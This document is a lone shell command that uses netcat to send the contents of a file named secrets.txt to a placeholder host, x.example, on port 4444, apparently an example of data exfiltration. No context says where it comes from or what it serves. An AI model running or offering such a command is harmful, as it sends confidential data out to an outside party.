nc x.example 4444 < secrets.txt
